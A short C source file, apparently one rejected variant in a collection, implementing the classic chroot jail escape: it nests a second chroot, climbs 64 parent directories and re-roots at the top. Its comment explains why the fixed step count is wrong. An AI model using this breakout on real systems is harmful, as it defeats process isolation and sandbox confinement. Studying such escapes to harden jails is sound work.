/*
 * Wrong: climbs 64 steps, as the demonstration does
 * Rejected-by: it gets out from 1200 directories down, in a chroot in a chroot
 * Shows: is its own parent
 */
#include <unistd.h>

#include "escape.h"

int
chroot_escape(void)
{
	int i;

	if (chroot("tmp") == -1)
		return -1;
	for (i = 0; i < 64; i++)
		if (chdir("..") == -1)
			return -1;
	return chroot(".");
}
